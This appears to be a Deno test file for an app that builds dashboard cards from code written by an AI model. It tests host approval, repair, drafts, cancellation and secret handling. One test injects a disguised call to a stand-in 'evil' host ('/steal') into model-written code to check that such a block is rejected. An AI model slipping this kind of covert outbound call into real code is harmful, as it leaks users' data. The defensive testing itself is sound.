import assert from "node:assert/strict";
import { exampleBlock } from "../testing/made_block.ts";
import type { GenerationView } from "./types.ts";
import { silentLog } from "../log.ts";
import { isolationLevels } from "../testing/isolation_levels.ts";
import { answers, inOrder, text, type WrittenBlock } from "../testing/model/scripts.ts";
import { type ModelScript, type ScriptedModel, startScriptedModel } from "../testing/model/scripted_model.ts";
import { currencyFacts } from "../testing/sites/frankfurter.ts";
import { CANARY, KEYED_BLOCK, keyedForm, keyedManifest, keyedSite } from "../testing/keyed_site.ts";
import { TEST_START, type TestProgram, type TestProgramOptions } from "../testing/start_program.ts";
import { waitUntil } from "../testing/wait_until.ts";
import { expectState, withProgram } from "../testing/with_program.ts";

const SENTENCE = "How the euro did against the dollar this month, as a line, with my own words under it";
const HOST = "api.frankfurter.dev";

async function withModel(
  script: ModelScript,
  work: (program: TestProgram, model: ScriptedModel) => Promise<void>,
  options: TestProgramOptions = {},
): Promise<void> {
  const model = await startScriptedModel(script);
  try {
    await withProgram((program) => work(program, model), {
      ...options,
      model: { baseUrl: model.baseUrl, model: "scripted", apiKey: "sk-canary" },
    });
  } finally {
    await model.close();
  }
}

async function start({ app }: TestProgram, sentence = SENTENCE): Promise<GenerationView> {
  const answer = await app.createFromSentence((await app.getDashboard()).id, sentence);
  assert.equal(answer.kind, "started", JSON.stringify(answer));
  if (answer.kind !== "started") throw new Error("not started");
  return answer.generation;
}

Deno.test("a model's block waits for its hosts before its first request, then becomes a card with real data", async () => {
  await withModel(inOrder(text(answers.json(await exampleBlock()))), async (program, model) => {
    const { app, maker, internet } = program;
    const started = await start(program);
    const waiting = await maker.wait(started.id);
    assert.deepEqual([waiting.status, waiting.hosts], ["needs_approval", [HOST]]);
    assert.equal(internet.seen.length, 0);
    expectState(await app.getCard(started.blockId), "needs_you");

    await app.approveHosts(started.blockId, [HOST]);
    const ended = await maker.wait(started.id);
    assert.equal(ended.status, "adopted", JSON.stringify(ended.diagnosis));
    const card = await app.getCard(started.blockId);
    expectState(card, "fresh");
    assert.equal(card.title, "EUR / USD, 30 days");
    const [point] = await app.listData(started.blockId);
    const facts = currencyFacts("EUR", "USD", { nowMs: TEST_START, days: 30 });
    assert.ok(JSON.stringify(point?.data).includes(String(facts.latest)), JSON.stringify(facts));
    assert.equal(model.seen.length, 1);
    assert.ok(card.tokens > 0);
    assert.deepEqual(
      (await app.listVersions(started.blockId)).map(({ number, status }) => [number, status]),
      [
        [1, "adopted"],
      ],
    );
    assert.equal(ended.attempt, 1);
    assert.doesNotMatch(model.seen[0]?.body ?? "", /sk-canary/);
  });
});

Deno.test("a block that fails its trial is repaired with the diagnosis, and its versions tell why", async () => {
  const good = await exampleBlock();
  const bad = {
    ...good,
    backend: good.backend.replace(
      "changePercent: (last.rate / first.rate - 1) * 100",
      "changePercent: 'much'",
    ),
  };
  assert.notEqual(bad.backend, good.backend);
  await withModel(inOrder(text(answers.json(bad)), text(answers.json(good))), async (program, model) => {
    await program.app.savePreferences({ ...await program.app.getPreferences(), allowPublicHosts: true });
    const started = await start(program);
    const ended = await program.maker.wait(started.id);
    assert.deepEqual([ended.status, ended.attempt], ["adopted", 2], JSON.stringify(ended.diagnosis));
    const repair = model.seen[1]?.body ?? "";
    assert.match(repair, /changePercent/);
    if (isolationLevels().includes("full")) {
      assert.match(
        repair,
        /TypeScript says of that code.+backend\.ts:\d+:\d+ Type 'string' is not assignable/,
      );
    }
    assert.ok(ended.steps.some(({ state }) => state === "failed"));
    expectState(await program.app.getCard(started.blockId), "fresh");
  });
});

Deno.test("a generation that never works keeps its best attempt as a draft, which can be tried again", async () => {
  const good = await exampleBlock();
  const bad = {
    ...good,
    backend: good.backend.replace("return await response.json();", "throw new Error('no idea');"),
  };
  const worse = { ...bad, backend: `${bad.backend}\nlet x = ;` };
  const script = inOrder(
    text(answers.json(bad)),
    text(answers.json(worse)),
    text("I cannot do this"),
    text(answers.json(good)),
  );
  await withModel(script, async (program) => {
    const { app, maker } = program;
    await app.savePreferences({ ...await app.getPreferences(), allowPublicHosts: true });
    const started = await start(program);
    const ended = await maker.wait(started.id);
    assert.deepEqual([ended.status, ended.hasDraft], ["draft", true], JSON.stringify(ended));
    const [draft] = await app.listVersions(started.blockId);
    assert.equal(draft?.status, "draft");
    assert.match((await app.getVersion(started.blockId, 1)).backend, /no idea/);
    expectState(await app.getCard(started.blockId), "draft");

    await app.retryGeneration(started.id);
    const again = await maker.wait(started.id);
    assert.equal(again.status, "adopted", JSON.stringify(again.diagnosis));
    expectState(await app.getCard(started.blockId), "fresh");
  });
});

Deno.test("cancelGeneration() ends a model that does not answer", async () => {
  await withModel({ reply: () => ({ kind: "hang" }) }, async (program) => {
    const started = await start(program);
    await program.app.cancelGeneration(started.id);
    assert.equal((await program.app.findGeneration(started.id))?.status, "cancelled");
    expectState(await program.app.getCard(started.blockId), "draft");
  });
});

Deno.test("a generation whose steps and end cannot be written is nobody's any more, and the program goes on", async () => {
  const lines: string[] = [];
  const log = { ...silentLog, error: (_area: string, message: string) => void lines.push(message) };
  await withModel(inOrder(text(answers.json(await exampleBlock()))), async (program) => {
    const { app, db, maker } = program;
    const full = "BEFORE UPDATE ON generations BEGIN SELECT RAISE(ABORT, 'database or disk is full'); END";
    await db.execute(`CREATE TRIGGER full ${full}`);
    const started = await start(program);
    // Nobody waits for it, as while no page is open.
    await waitUntil("it is given up", () => lines.includes("End of a generation not written down"));
    assert.equal(lines[0], "Generation broke");

    await db.execute("DROP TRIGGER full");
    await app.retryGeneration(started.id);
    assert.equal((await maker.wait(started.id)).status, "needs_approval");
  }, { log });
});

Deno.test("a wrong key ends the generation with words for the person", async () => {
  await withModel({ reply: () => ({ kind: "status", status: 401 }) }, async (program) => {
    const started = await start(program);
    const ended = await program.maker.wait(started.id);
    assert.equal(ended.status, "failed");
    assert.equal(ended.diagnosis?.move, "person");
    assert.match(ended.diagnosis?.happened ?? "", /key/i);
  });
});

Deno.test("a block that catches the refusal of an undeclared host and invents data is not adopted", async () => {
  const good = await exampleBlock();
  const sly = {
    ...good,
    backend: good.backend.replace(
      "const response = await fetch(",
      "await fetch(`https://evil.${'example'}/steal`).catch(() => 0);\n  const response = await fetch(",
    ),
  };
  await withModel(inOrder(text(answers.json(sly))), async (program) => {
    await program.app.savePreferences({ ...await program.app.getPreferences(), allowPublicHosts: true });
    const started = await start(program);
    const ended = await program.maker.wait(started.id);
    assert.equal(ended.status, "draft", JSON.stringify(ended.diagnosis));
  });
});

Deno.test("createFromSentence() says honestly that nothing fits without a model, and refuses empty and endless ones", async () => {
  await withProgram(async ({ app }) => {
    const { id } = await app.getDashboard();
    assert.equal((await app.createFromSentence(id, SENTENCE)).kind, "no_model");
    assert.equal((await app.createFromSentence(id, "https://api.example.org/x.json")).kind, "address");
    await assert.rejects(app.createFromSentence(id, "   \u200b "), /Say what you want to see/);
    await assert.rejects(app.createFromSentence(id, "x".repeat(5_000)), /at most 4000/);
    assert.deepEqual((await app.getDashboard()).cards, []);
  });
});

Deno.test("a block that is deleted while it is made asks the model no more", async () => {
  await withModel({ reply: () => ({ kind: "hang" }) }, async (program) => {
    const started = await start(program);
    await program.app.deleteBlock(started.blockId);
    assert.equal((await program.app.findGeneration(started.id))?.status, "cancelled");
  });
});

/** A block of a model that reads a source which wants a key. */
const KEYED: WrittenBlock = {
  manifest: {
    ...JSON.parse(keyedManifest()),
    hosts: ["api.keys.example"],
    explanation: "Reads the keyed source.",
  },
  backend: KEYED_BLOCK.backend,
  view: KEYED_BLOCK.view,
};

Deno.test("a model's block that needs a connection waits for it to be stored and allowed, and never sees it", async () => {
  await withModel(inOrder(text(answers.json(KEYED))), async (program, model) => {
    const { app, maker, internet } = program;
    await app.savePreferences({ ...await app.getPreferences(), allowPublicHosts: true });
    const started = await start(program, "How many pull requests wait for me");
    const waiting = await maker.wait(started.id);
    assert.deepEqual(
      [waiting.status, waiting.connections, waiting.hosts],
      ["needs_approval", ["KEYS"], ["api.keys.example"]],
      "public hosts without asking are none for what a secret reads",
    );
    const first = expectState(await app.getCard(started.blockId), "needs_you").need;
    assert.ok(
      first.kind === "connection" && first.name === "KEYS" && first.origin === "https://api.keys.example",
    );

    const saved = await app.createConnection(keyedForm());
    assert.ok(saved.kind === "saved");
    const { need } = expectState(await app.getCard(started.blockId), "needs_you");
    assert.ok(need.kind === "connections");
    assert.deepEqual(need.hosts, ["api.keys.example"]);
    assert.equal(internet.seen.some(({ url }) => url.includes("keys.example")), false);

    await app.approveConnections(started.blockId, { connections: [saved.id], hosts: [] });
    const ended = await maker.wait(started.id);
    assert.equal(ended.status, "adopted", JSON.stringify(ended.diagnosis));
    expectState(await app.getCard(started.blockId), "fresh");
    assert.ok(!model.seen.some(({ body }) => body.includes(CANARY.slice(0, 12))));
  }, { sites: [keyedSite] });
});
